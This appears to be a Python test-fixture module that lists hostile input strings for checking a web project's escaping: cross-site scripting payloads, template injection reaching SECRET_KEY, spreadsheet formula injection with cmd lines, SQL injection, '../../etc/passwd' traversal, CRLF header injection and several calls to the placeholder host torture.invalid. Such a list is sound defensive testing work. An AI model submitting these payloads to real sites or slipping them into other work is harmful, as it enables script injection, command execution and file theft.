"""Texts that somebody may type to do harm. Written for this project, one or more of each kind that
is known: each would leave the mark `torture` in a page, open a dialog, or ask another host. A list
that others have published joins them where TORTURE_STRINGS names its file."""

import json
import os
from pathlib import Path

FOREIGN = "https://torture.invalid"

SCRIPTS = [
    "<script>alert('torture')</script>",
    "<ScRiPt src=//torture.invalid/a.js></sCrIpT>",
    "<script\n>alert('torture')</script\n>",
    "<script/x>alert('torture')</script>",
    "</title><script>alert('torture')</script>",
    "</textarea><script>alert('torture')</script>",
    "</script><script>alert('torture')</script>",
    "--><script>alert('torture')</script><!--",
    "]]><script>alert('torture')</script>",
    "<scr<script>ipt>alert('torture')</scr</script>ipt>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('torture')>\">",
]
HANDLERS = [
    "<img src=x onerror=alert('torture')>",
    "<img/src='x'onerror=alert('torture')//",
    '" onmouseover="alert(\'torture\')" data-torture="',
    "' onfocus='alert(1)' autofocus data-torture='",
    "x onpointerenter=alert(1) data-torture",
    "\"><torture-mark onclick=alert('torture')>press</torture-mark>",
    "<details open ontoggle=alert('torture')>",
    "<video><source onerror=alert('torture')></video>",
    "<body onload=alert('torture')>",
    "<input autofocus onfocus=alert('torture')>",
    "<marquee onstart=alert('torture')>torture</marquee>",
]
ADDRESSES = [
    "javascript:alert('torture')",
    "JaVaScRiPt:alert('torture')",
    "java\tscript:alert('torture')",
    " javascript:alert('torture')",
    "\x01javascript:alert('torture')",
    "javascript://example.org/%0aalert('torture')",
    "data:text/html,<script>alert('torture')</script>",
    "vbscript:msgbox(1)",
    "//torture.invalid/",
    "https://torture.invalid/\"onclick=\"alert('torture')",
]
FRAMES = [
    "<iframe srcdoc=\"<script>parent.alert('torture')</script>\"></iframe>",
    "<iframe src=javascript:alert('torture')></iframe>",
    "<object data=javascript:alert('torture')></object>",
    "<embed src=//torture.invalid/a.swf>",
    "<base href=//torture.invalid/>",
    "<meta http-equiv=refresh content='0;url=//torture.invalid/'>",
    "<form action=//torture.invalid/><button>torture</button></form>",
    "<a href=javascript:alert('torture') data-torture>press</a>",
]
DRAWINGS = [
    "<svg onload=alert('torture')>",
    "<svg><script>alert('torture')</script></svg>",
    "<svg><a xlink:href=javascript:alert('torture')><text y=9>torture</text></a></svg>",
    "<svg><animate onbegin=alert('torture') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('torture')></style></mglyph>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert('torture')>\">",
]
STYLES = [
    "<style>*{background:url(//torture.invalid/a.png)}</style>",
    "<p style=background:url(//torture.invalid/a.png) data-torture>torture",
    "<link rel=stylesheet href=//torture.invalid/a.css>",
    "</style><img src=x onerror=alert('torture')>",
]
TEMPLATES = [
    "{{ 7|add:1234567 }}{% debug %}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    "${alert('torture')}{{constructor.constructor('alert(1)')()}}",
    "%(torture)s %s %n {0.__class__} {torture}",
]
ENTITIES = [
    "&lt;script&gt;alert('torture')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('torture')&#62;",
    "&#x3C;svg/onload=alert('torture')&#x3E;",
    "&amp;lt;script&amp;gt;alert('torture')&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert('torture')%3C/script%3E",
    "\\u003cscript\\u003ealert('torture')\\u003c/script\\u003e",
    "＜script＞alert('torture')＜/script＞",
]
MARKDOWN = [
    "[press](javascript:alert('torture'))",
    "[press](java&#115;cript:alert('torture'))",
    "![x](x\"onerror=\"alert('torture'))",
    "<javascript:alert('torture')>",
    "[press]: data:text/html,<script>alert('torture')</script>\n\n[press]",
    "`<img src=x onerror=alert('torture')>`",
    "[@lymar, <img src=x onerror=alert('torture')>]",
    "[a](https://torture.invalid/ \"x\" onclick=alert('torture'))",
]
FORMULAS = [
    '=HYPERLINK("https://torture.invalid","torture")',
    "+cmd|' /C torture'!A0",
    "-1+cmd|' /C torture'!A0",
    "@SUM(1+1)*cmd|' /C torture'!A0",
    "\t=1+1",
    "\n=1+1",
    "torture;=1+1",
    "torture\t=1+1",
    "torture\n=1+1",
    "torture\r@SUM(1)",
    '";=1+1;"',
    "torture; +1+1",
    "＝1+1",
    "'=1+1",
]
WRITING = [
    "torture \u202egnp.exe\u202c \u2066isolated",
    "t\u0301\u0302\u0303\u0304\u0305\u0306" * 3,
    "ſcrıpt İSTANBUL ß ŉ ﬃ",
    "\ufeff\u200btorture\u200d\u2028\u2029",
    "שלום <b>עולם</b>",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0041",
    "\x00torture\x1b[31m\x7f",
    "'; DROP TABLE roles_role; --",
    '" OR ""="',
]
MARKUP = [*SCRIPTS, *HANDLERS, *ADDRESSES, *FRAMES, *DRAWINGS, *STYLES, *TEMPLATES, *ENTITIES]
PUBLISHED = os.environ.get("TORTURE_STRINGS")
"""A file with a list of texts in JSON, such as that of the Big List of Naughty Strings."""
ATTACKS = [*MARKUP, *MARKDOWN, *FORMULAS, *WRITING]
if PUBLISHED:
    ATTACKS += filter(None, json.loads(Path(PUBLISHED).read_text(encoding="utf-8")))
STEP = 61
"""From one round to the next, each place has the text so far behind: in turn, all come to all."""

ODD_VALUES = [
    *("", " ", "\0", "\ufffd", "9" * 30, "-1", "1e9", "NaN", "٣", "²", "None", "true", "[]"),
    *(
        "a" * 5_000,
        "ä" * 700,
        "t\u0301" * 300,
        "\u202edrawkcab",
        "İ",
        "ß",
        "..",
        "../../etc/passwd",
    ),
    *("2026-13-45", "0000-00-00", "9999-12-31", "10000-01-01", "0001-01-01", "2026-W01-1"),
    *(
        "*",
        "%",
        "_",
        "\\",
        "a AND",
        '"',
        '"a',
        "(",
        "NEAR(",
        "a:b",
        "-",
        "a* b*",
        "http://[",
        "//x",
    ),
    *(
        "http://example.org:99999/",
        "https://" + "x." * 200,
        "/" * 300,
        "?" * 50,
        "/%zz/",
        "\r\nX: y",
    ),
]
"""Values that no field expects."""
RAW_VALUES = [
    "%00",
    "%ff",
    "%ed%b0%80",
    "%c0%af",
    "%",
    "%zz",
    "%f0%9f",
    "%0d%0aX:%20y",
    "+",
    "&&=",
    ";",
]
"""The same, as bytes of an address that no text has."""
